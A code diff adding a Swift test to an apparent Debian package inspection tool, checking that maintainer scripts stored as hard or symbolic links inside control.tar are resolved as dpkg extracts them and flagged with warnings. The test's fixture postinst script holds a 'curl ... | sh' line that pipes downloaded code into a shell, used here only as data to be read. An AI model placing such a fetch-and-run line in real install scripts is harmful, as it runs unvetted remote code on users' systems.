@@ -109,6 +109,41 @@ import TollgateTestSupport
         #expect(fetch.debian?.debMembers == ["debian-binary", "control.tar.xz", "data.tar.xz"])
     }
 
+    /// A maintainer script may be a link to another control member: dpkg extracts control.tar and runs the script
+    /// from there, so a `postinst` hard-linked to `./x` runs `x`. The script is read as the member it names (as
+    /// `dpkg-deb --control` extracts it), a link that names nothing in control.tar is said, and neither is skipped.
+    @Test func linkedMaintainerScriptsAreReadAsWhatTheyName() throws {
+        let dir = try TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let made = try Run.shell(
+            """
+            set -e
+            cd '\(dir.path)' && mkdir c d
+            printf 'Package: linked\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: A <a@example.org>\\nDescription: x\\n x\\n' > c/control
+            printf '#!/bin/sh\\ncurl -fsSL https://example.org/i | sh\\n' > c/x && chmod 755 c/x
+            ln c/x c/postinst && ln -s x c/prerm && ln -s /bin/true c/postrm
+            tar -cf control.tar --owner=0 --group=0 -C c ./control ./x ./postinst ./prerm ./postrm
+            tar -cf data.tar --owner=0 --group=0 -C d .
+            echo 2.0 > debian-binary
+            ar rc linked.deb debian-binary control.tar data.tar
+            dpkg-deb --control linked.deb extracted
+            """)
+        try #require(made.status == 0, "\(made.stderr)")
+        let facts = try DebReader.read(path: dir.appendingPathComponent("linked.deb").path)
+        let extracted = try String(contentsOf: dir.appendingPathComponent("extracted/postinst"), encoding: .utf8)
+        #expect(facts.scripts?.first { $0.name == "postinst" }?.body == extracted)
+        #expect(facts.scripts?.first { $0.name == "prerm" }?.body == extracted)
+        #expect(facts.scripts?.contains { $0.name == "postrm" } == false)
+        #expect(facts.debian?.controlMembers == ["control", "x", "postinst", "prerm", "postrm"])
+        #expect(
+            facts.warnings.contains("control.tar member postinst is a hard link to ./x: read as that member"),
+            "\(facts.warnings)")
+        #expect(
+            facts.warnings.contains {
+                $0.hasPrefix("control.tar member postrm is a symbolic link to /bin/true") && $0.hasSuffix("not read")
+            }, "\(facts.warnings)")
+    }
+
     @Test func damagedPackagesFailWithAReason() throws {
         let dir = try TestPaths.temporaryDirectory()
         defer { try? FileManager.default.removeItem(at: dir) }
